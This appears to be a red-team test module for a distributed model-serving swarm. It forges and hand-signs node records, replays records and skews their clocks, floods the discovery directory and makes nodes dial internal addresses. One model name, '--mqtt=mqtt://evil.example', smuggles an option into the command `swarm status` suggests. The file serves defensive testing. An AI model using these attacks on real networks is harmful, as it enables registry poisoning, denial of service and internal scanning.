"""Signed records that claim what is not so: one of them is free, and everybody reads it."""

from __future__ import annotations

import asyncio
import os
import secrets
import signal
import sys
import time
from collections.abc import Callable, Sequence
from contextlib import suppress
from dataclasses import replace

import msgpack

from benchmarks.redteam.attack import Fight, Kind, attack
from benchmarks.redteam.kit import RECORD_S, other_model
from swarm.discovery.identity import Identity
from swarm.discovery.node_record import NodeRecord, NodeState, open_sealed, seal
from swarm.discovery.record_fields import RecordError
from swarm.discovery.registry import RECORD_TTL_S, record_keys
from swarm.layers import Span
from swarm.protocol.messages import RouteHop

NOWHERE = "127.0.0.1:9"
STATUS_S = 25.0


async def publish(fight: Fight, span: str, address: str = NOWHERE, count: int = 1, **claims: object) -> None:
    """Store such records under identities of one's own until the attack is stopped; then take them back."""
    registry = await fight.kit.directory()
    identities = await asyncio.to_thread(fight.kit.identities, count)
    await fight.go()
    records: list[tuple[NodeRecord, Identity]] = []
    try:
        for who in identities:
            record = fight.kit.record(who, Span.parse(span), address, **claims)
            records.append((record, who))
            await _announce(fight, registry, record, who)
        await fight.stay()
    finally:
        with suppress(Exception):
            async with asyncio.timeout(8.0):
                for record, who in records[:64]:
                    gone = replace(record, sequence=record.sequence + 1, expires_at=record.expires_at + 0.001)
                    await _announce(fight, registry, gone, who, left=True)


async def _announce(fight: Fight, registry: object, record: NodeRecord, who: Identity, **sealing: bool) -> None:
    """Announce it; what this program itself would not sign is sealed by hand."""
    try:
        await fight.kit.announce(registry, record, who, **sealing)  # type: ignore[arg-type]
    except RecordError:
        fight.note("our own program does not sign it; it was signed by hand")
        await fight.kit.store(registry, record_keys(record), record, sealed_by_hand(record, who))  # type: ignore[arg-type]


def sealed_by_hand(record: NodeRecord, who: Identity) -> bytes:
    """A record with a valid signature over whatever it claims."""
    from swarm.discovery import node_record

    body = msgpack.packb(node_record._encode(record, False))
    packed: bytes = msgpack.packb([who.public_key, body, who.sign(node_record._DOMAIN + body)])
    return packed


@attack("infinite-speed", Kind.RECORDS, stains=True)
async def infinite_speed(fight: Fight) -> None:
    """One record whose speeds are ±1e308 ms, so that routes cost no number."""
    await publish(fight, "0-12", sweep_ms=((0, -1e308), (1, 1e308), (16, -1e308), (17, 1e308)))


@attack("negative-speed", Kind.RECORDS, stains=True)
async def negative_speed(fight: Fight) -> None:
    """Four records of speeds below zero, of zero and in odd orders, with nobody behind them."""
    await publish(fight, "0-12", count=4, sweep_ms=((64, -5.0), (1, -1.0), (1, 0.0)))


@attack("dead-quick", Kind.RECORDS)
async def dead_quick(fight: Fight) -> None:
    """Sixteen records of idle, quick machines that nobody can reach."""
    await publish(fight, "0-12", count=16, sweep_ms=((1, 0.01), (64, 0.02)))


@attack("other-weights", Kind.RECORDS, stains=True)
async def other_weights(fight: Fight) -> None:
    """One record of a model with the honest name, config and tokenizer, and other weights."""
    model = other_model(fight.ground.model, weights_digest=secrets.token_hex(32))
    await publish(fight, "0-12", model=model)


@attack("more-layers", Kind.RECORDS, stains=True)
async def more_layers(fight: Fight) -> None:
    """One record with the honest fingerprint and 13 layers."""
    await publish(fight, "0-13", model=replace(fight.ground.model, num_layers=13))


@attack("other-config", Kind.RECORDS, stains=True)
async def other_config(fight: Fight) -> None:
    """One record with the honest fingerprint and another config's digest."""
    await publish(fight, "0-12", model=replace(fight.ground.model, config_digest="2" * 64))


@attack("fifty-models", Kind.RECORDS, stains=True)
async def fifty_models(fight: Fight) -> None:
    """Fifty records of models that are called as the honest one, each with other digests."""
    registry = await fight.kit.directory()
    identities = await asyncio.to_thread(fight.kit.identities, 50)
    await fight.go()
    for who in identities:
        model = other_model(
            fight.ground.model, config_digest=secrets.token_hex(32), weights_digest=secrets.token_hex(32)
        )
        record = fight.kit.record(who, Span(0, 12), NOWHERE, model=model)
        await _announce(fight, registry, record, who)
    await fight.stay()


@attack("deep-model", Kind.RECORDS, stains=True, lasts_s=STATUS_S)
async def deep_model(fight: Fight) -> None:
    """Sixteen records of a model of 4,096 layers; `swarm status` must still show the honest one."""
    model = other_model(fight.ground.model, name="deep", num_layers=4_096)
    showing = asyncio.create_subprocess_exec
    task = publish(fight, "0-4096", count=16, model=model)

    async def look() -> None:
        await fight.started.wait()
        await asyncio.sleep(4.0)
        await check_status(fight, showing)

    fight.kit.scope.spawn(look())
    await task


async def check_status(fight: Fight, run: object = asyncio.create_subprocess_exec) -> None:
    """Run `swarm status`: it must show the honest model, and nothing that steers a terminal or a shell."""
    assert callable(run)
    command = (sys.executable, "-m", "swarm.cli", "status", "--join", fight.ground.join)
    process = await run(*command, stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.STDOUT)
    try:
        async with asyncio.timeout(STATUS_S):
            out, _ = await process.communicate()
    except TimeoutError:
        process.kill()
        fight.breach("`swarm status` does not answer")
        return
    if fight.ground.model.name.encode() not in out or process.returncode:
        fight.breach(f"`swarm status` shows no honest model: {out[-120:].decode(errors='replace')!r}")
    if b"\x1b" in out:
        fight.breach("`swarm status` writes a stranger's escapes")
    for line in out.decode(errors="replace").splitlines():
        if "node serve" in line and " --mqtt" in line and "'--mqtt" not in line:
            fight.breach("`swarm status` offers a line whose option a stranger chose")


@attack("option-name", Kind.RECORDS, stains=True, lasts_s=16.0)
async def option_name(fight: Fight) -> None:
    """A record of a model that is called as an option of the line which `swarm status` offers to copy."""
    model = other_model(fight.ground.model, name="--mqtt=mqtt://evil.example", num_layers=20)

    async def look() -> None:
        await fight.started.wait()
        await asyncio.sleep(3.0)
        await check_status(fight)

    fight.kit.scope.spawn(look())
    await publish(fight, "0-10", model=model)


@attack("scanner", Kind.RECORDS)
async def scanner(fight: Fight) -> None:
    """Records that name other addresses of a node's network, which it dials; what it tells of them is a breach."""
    silent = await asyncio.start_server(lambda reader, writer: None, "127.0.0.1", 0)
    speaking = await asyncio.start_server(lambda reader, writer: writer.write(b"SSH-2.0-x\r\n"), "127.0.0.1", 0)
    ports = [server.sockets[0].getsockname()[1] for server in (silent, speaking)]
    addresses = [f"127.0.0.1:{ports[0]}", f"127.0.0.1:{ports[1]}", "127.0.0.1:9", "no-such-host.invalid:80"]
    identities = await asyncio.to_thread(fight.kit.identities, len(addresses))
    span = fight.ground.nodes[1].span
    await fight.go()
    told = set()
    for who, address in zip(identities, addresses, strict=True):
        sealed = seal(fight.kit.record(who, span, address), who)
        attach = fight.kit.attach()
        link, is_ready = await fight.kit.session(attach)
        if not is_ready:
            continue
        with suppress(Exception):
            route = (fight.kit.route[0], RouteHop(who.peer_id, span))
            await link.send(fight.kit.reroute(attach, 1, route, sealed))
            async with asyncio.timeout(6.0):
                while (answer := await link.read()) is not None:
                    reason = getattr(answer, "reason", None)
                    if reason is not None:
                        told.add(reason.replace(address, "ADDRESS"))
                        break
    if len(told) > 1:
        fight.breach(f"a node tells what answers at addresses of its network: {sorted(told)[0][:60]!r} and others")
    silent.close()
    speaking.close()
    await fight.stay()


@attack("successor-flood", Kind.RECORDS)
async def successor_flood(fight: Fight) -> None:
    """60 Reroutes a second to machines with signed records, each at another address, which a node dials one by one."""
    identities = await asyncio.to_thread(fight.kit.identities, 400)
    span = fight.ground.nodes[1].span
    await fight.go()
    connection = await fight.kit.connection(fight.ground.nodes[0])
    link, attach = None, fight.kit.attach()
    async for number in fight.pace(60.0):
        who = identities[number % len(identities)]
        try:
            if link is None:
                link, attach = fight.kit.link_over(connection), fight.kit.attach()
                await link.send(attach)
                fight.kit.scope.spawn(link.listen())
            record = fight.kit.record(who, span, f"127.{number % 200 + 20}.{number // 200 % 250}.1:9")
            route = (fight.kit.route[0], RouteHop(who.peer_id, span))
            await link.send(fight.kit.reroute(attach, number + 1, route, seal(record, who)))
            fight.tally.acts += 1
        except Exception:  # noqa: BLE001 (the stream was ended: begin another)
            fight.tally.refused += 1
            link = None


# Clocks


@attack("far-future", Kind.CLOCKS)
async def far_future(fight: Fight) -> None:
    """Records that run out in an hour, in a year and at the end of time; one that is stored is a breach."""
    registry = await fight.kit.directory()
    identities = await asyncio.to_thread(fight.kit.identities, 3)
    await fight.go()
    for who, ahead in zip(identities, (3_600.0, 3.2e7, 1e17), strict=True):
        record = fight.kit.record(who, Span(0, 12), NOWHERE, expires_at=time.time() + ahead)
        if await fight.kit.store(registry, record_keys(record), record, sealed_by_hand(record, who)):
            fight.breach(f"a record that runs out in {ahead:.0f} s was stored")
    await fight.stay()


@attack("sequence-leap", Kind.CLOCKS)
async def sequence_leap(fight: Fight) -> None:
    """One's own records whose sequences leap to 2^62 and back, twice a second."""
    registry = await fight.kit.directory()
    [who] = await asyncio.to_thread(fight.kit.identities, 1)
    await fight.go()
    async for number in fight.pace(2.0):
        sequence = (1 << 62) - number if number % 2 else number
        record = fight.kit.record(who, Span(0, 12), NOWHERE, sequence=sequence, expires_at=time.time() + RECORD_S)
        await _announce(fight, registry, record, who)


@attack("replayed-records", Kind.CLOCKS)
async def replayed_records(fight: Fight) -> None:
    """The honest nodes' own records, stored again and again, also under other names and for longer."""
    [who] = await asyncio.to_thread(fight.kit.identities, 1)
    entries: list[Entry] = []
    for sealed in fight.sealed:
        record = open_sealed(sealed, time.time()).record
        for key in record_keys(record):
            entries.append((key, record.peer, sealed, time.time() + RECORD_TTL_S))
            entries.append((key, who.peer_id, sealed, record.expires_at))
    if await pour(fight, entries, stays=False):
        fight.breach("an honest record was stored under another name, or for longer than it was signed for")
    registry = await fight.kit.directory()
    async for _ in fight.pace(4.0):
        for sealed in fight.sealed:
            record = open_sealed(sealed, time.time()).record
            await fight.kit.store(registry, record_keys(record), record, sealed)


@attack("wrong-clock", Kind.CLOCKS)
async def wrong_clock(fight: Fight) -> None:
    """Machines whose clocks are two days ahead and two days behind list themselves and measure everybody."""
    registry = await fight.kit.directory()
    identities = await asyncio.to_thread(fight.kit.identities, 2)
    await fight.go()
    async for _ in fight.pace(1.0):
        for who, days in zip(identities, (2, -2), strict=True):
            record = fight.kit.record(who, Span(0, 12), NOWHERE, expires_at=time.time() + days * 86_400 + RECORD_S)
            await fight.kit.store(registry, record_keys(record), record, sealed_by_hand(record, who))


# Many at once


Entry = tuple[str, str, bytes, float]
"""A key, whose record it is, the record, and when it runs out."""


async def pour(fight: Fight, entries: Sequence[Entry], *, stays: bool = True) -> int:
    """Store all of it by a member of the directory that keeps no rule, once; then stay, or say how much was taken."""
    command = (sys.executable, "-m", "benchmarks.redteam.flooder", fight.ground.join)
    pipe = asyncio.subprocess.PIPE
    process = await asyncio.create_subprocess_exec(*command, stdin=pipe, stdout=pipe, start_new_session=True)
    assert process.stdin is not None
    assert process.stdout is not None
    taken = refused = 0
    try:
        assert await process.stdout.readline() == b"ready\n", "the flooder did not join"
        await fight.go()
        message = msgpack.packb(entries)
        fight.tally.sent_bytes += len(message)
        fight.tally.acts += len(entries)
        process.stdin.write(message)
        while (line := await process.stdout.readline()) not in {b"done\n", b""}:
            taken, refused = (one + int(more) for one, more in zip((taken, refused), line.split(), strict=True))
        if stays:
            await fight.stay()
        return taken
    finally:
        fight.tally.refused += refused
        fight.note(f"{taken} of {len(entries)} records were taken")
        process.stdin.close()
        with suppress(ProcessLookupError):
            os.killpg(process.pid, signal.SIGKILL)


async def sealed_of_many(fight: Fight, count: int, make: Callable[[int, Identity], NodeRecord]) -> list[Entry]:
    """Records of so many identities, under all their keys."""

    def seal_all() -> list[Entry]:
        entries: list[Entry] = []
        for number, who in enumerate(fight.kit.identities(count)):
            record = make(number, who)
            sealed = sealed_by_hand(record, who)
            entries += [(key, record.peer, sealed, record.expires_at) for key in record_keys(record)]
        return entries

    return await asyncio.to_thread(seal_all)


@attack("models-flood", Kind.DIRECTORY, stains=True, lasts_s=30.0)
async def models_flood(fight: Fight) -> None:
    """1,300 records of as many models, 4.8 MB, which everybody reads who asks what the swarm serves."""
    keep = time.time() + 280.0

    def make(number: int, who: Identity) -> NodeRecord:
        model = other_model(fight.ground.model, name="x" * 90 + str(number))
        names = tuple((fight.ground.nodes[0].peer, 1.0) for _ in range(16))
        return fight.kit.record(who, Span(0, 12), NOWHERE, model=model, delays_ms=names, expires_at=keep)

    await pour(fight, await sealed_of_many(fight, 1_300, make))


@attack("keys-flood", Kind.DIRECTORY, stains=True, lasts_s=40.0)
async def keys_flood(fight: Fight) -> None:
    """Records under 4,200 keys of few identities, valid for longer than honest ones, so that these are pushed out."""
    base, keep = secrets.token_hex(28), time.time() + 280.0

    def make(number: int, who: Identity) -> NodeRecord:
        model = other_model(fight.ground.model, name="wide", num_layers=4_096, fingerprint=f"{base}{number:08x}")
        return fight.kit.record(who, Span(0, 4_096), NOWHERE, model=model, expires_at=keep)

    await pour(fight, await sealed_of_many(fight, 17, make))


@attack("identities-flood", Kind.DIRECTORY, stains=True, lasts_s=20.0)
async def identities_flood(fight: Fight) -> None:
    """600 identities list quick machines of the honest model, at addresses where nobody is."""
    keep = time.time() + 280.0

    def make(number: int, who: Identity) -> NodeRecord:
        return fight.kit.record(who, Span(0, 12), f"127.0.0.1:{20_000 + number}", expires_at=keep)

    await pour(fight, await sealed_of_many(fight, 600, make))


@attack("joining-flood", Kind.DIRECTORY, stains=True)
async def joining_flood(fight: Fight) -> None:
    """100 identities announce and withdraw machines of the honest model, over and over."""
    registry = await fight.kit.directory()
    identities = await asyncio.to_thread(fight.kit.identities, 100)
    await fight.go()
    async for number in fight.pace(10.0):
        who = identities[number % 100]
        state = NodeState.JOINING if number % 2 else NodeState.SERVING
        record = fight.kit.record(who, Span(0, 12), NOWHERE, state=state, sequence=number + 1)
        await fight.kit.announce(registry, record, who, left=number % 3 == 0)
